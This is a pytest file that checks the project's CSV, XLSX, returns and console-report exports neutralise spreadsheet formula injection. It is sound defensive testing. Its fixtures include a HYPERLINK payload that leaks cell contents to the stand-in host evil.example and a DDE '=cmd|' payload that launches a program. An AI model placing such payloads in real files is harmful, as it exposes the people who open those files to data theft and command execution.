"""Formula injection: no spreadsheet or CSV the project writes runs a published value.

A value such as =HYPERLINK("http://evil.example/?leak="&A1,"x") in a record, an org
name or a reject message must reach the person who opens the file as text: in CSV
with a leading single quote (OWASP), in XLSX as a string cell (never a formula)."""
import csv
import io
import zipfile

import openpyxl

import connectors
from causeway_common.cells import FORMULA_TRIGGERS, csv_cell
from hub.db import write_transaction
from hub.records.models import record_rejects
from hub.returns.export import grid_csv, period_csv
from support.console import add_staff, sign_in
from support.factories import gazetteer_record

LEAK = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
HOSTILE = [LEAK, "+1+1", "-2+3", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", "\n=1+1", "=cmd|' /C calc'!A0"]
HARMLESS = ["Perth £", "a=b", "12", "", " =1 (leading space)"]


def events(values):
    return [{"type": "uk.causeway.record.upsert", "subject": str(n), "sequence": n, "time": "2026-03-01T10:00:00Z",
             "dataset": "gazetteer-address", "data": {"town": value, "count": -n, "nested": {"x": value}}}
            for n, value in enumerate(values, start=1)]


def test_every_trigger_of_owasp_is_covered():
    assert set("=+-@\t\r") <= {t for t in FORMULA_TRIGGERS}
    assert csv_cell(-5) == -5  # a number is a number, not text to a spreadsheet
    assert csv_cell(None) is None


def test_csv_sink_neutralises_every_formula_and_leaves_other_text_alone(tmp_path):
    sink = connectors.load_sink("spreadsheet", {"folder": "out", "columns": ["town", "count"]}, tmp_path)
    sink.write(events(HOSTILE + HARMLESS))
    (written,) = (tmp_path / "out").iterdir()
    text = written.read_bytes().decode("utf-8-sig")
    assert "'=HYPERLINK(\"\"http://evil.example/?leak=\"\"&A1,\"\"x\"\")" in text  # quoted and prefixed
    rows = list(csv.reader(io.StringIO(text)))[1:]
    towns = [row[4] for row in rows]
    assert towns == ["'" + v for v in HOSTILE] + HARMLESS
    assert [row[5] for row in rows] == [str(-n) for n in range(1, len(rows) + 1)]  # numbers untouched
    for row in rows:  # only a plain number may begin with a sign
        assert [c for c in row if c.startswith(FORMULA_TRIGGERS) and not c.lstrip("-").isdigit()] == []


def test_xlsx_sink_writes_text_as_text_never_as_a_formula(tmp_path):
    sink = connectors.load_sink("spreadsheet", {"folder": "out", "format": "xlsx"}, tmp_path)
    sink.write(events(HOSTILE + HARMLESS))
    (written,) = (tmp_path / "out").iterdir()
    sheet = openpyxl.load_workbook(written).active
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert [c for c in cells if c.data_type == "f"] == []
    header = [c.value for c in sheet[1]]
    town = header.index("town") + 1
    column = [sheet.cell(row=r, column=town) for r in range(2, sheet.max_row + 1)]
    # The data as published, read back unchanged (but for XML's own CR -> LF).
    assert [c.value or "" for c in column] == [v.replace("\r", "\n") for v in HOSTILE + HARMLESS]
    assert all(c.data_type == "s" for c in column if c.value)
    assert [c.quotePrefix for c in column] == [True] * len(HOSTILE) + [False] * len(HARMLESS)
    assert sheet.cell(row=2, column=header.index("count") + 1).value == -1  # numbers stay numbers
    # The raw sheet XML holds no <f> element at all: Excel has nothing to run.
    with zipfile.ZipFile(written) as archive:
        assert b"<f>" not in archive.read("xl/worksheets/sheet1.xml")


def _returns_row(org, name, flags):
    return {"org": org, "name": name, "status": "submitted", "submitted_at": "2026-04-01T09:00:00Z",
            "last_submitted_at": None, "submitted_by": "@attacker", "record_count": 3, "resubmitted": False,
            "flags": [{"message": m} for m in flags]}


def test_returns_export_neutralises_names_actors_and_flag_messages():
    status = {"dataset": "data-return.school-meals", "period": "2026-Q1", "due_date": "2026-04-30",
              "publishers": [_returns_row("fife", LEAK, ["-1 meals is below zero"]),
                             _returns_row("perth", "Perth and Kinross Council", [])]}
    grid = {"dataset": status["dataset"], "periods": [{"period": "2026-Q1", "due_date": "2026-04-30"}],
            "publishers": [{"cells": {"2026-Q1": row}} for row in status["publishers"]]}
    for text in (period_csv(status), grid_csv(grid)):
        rows = list(csv.DictReader(io.StringIO(text)))
        assert rows[0]["name"] == "'" + LEAK
        assert rows[0]["submitted_by"] == "'@attacker"
        assert rows[0]["flags"] == "'-1 meals is below zero"
        assert rows[1]["name"] == "Perth and Kinross Council"
        assert rows[0]["record_count"] == "3"


def test_console_quality_report_neutralises_reject_messages(services, client, auth):
    bad = gazetteer_record(1)
    bad["payload"]["postcode"] = LEAK
    response = client.post("/api/v1/records", json={"records": [bad]}, headers=auth("edinburgh", "publisher"))
    assert response.json()["results"][0]["status"] == "rejected"
    with write_transaction(services.engine) as conn:  # a message that begins with the value, as some do
        conn.execute(record_rejects.update().values(message=LEAK))
    add_staff(services, "ada", "sds", "admin")
    assert sign_in(client, "ada").status_code == 302
    report = client.get("/console/quality/report.csv")
    assert report.status_code == 200
    rows = list(csv.DictReader(io.StringIO(report.text)))
    assert [r["most_common_error"] for r in rows] == ["'" + LEAK]
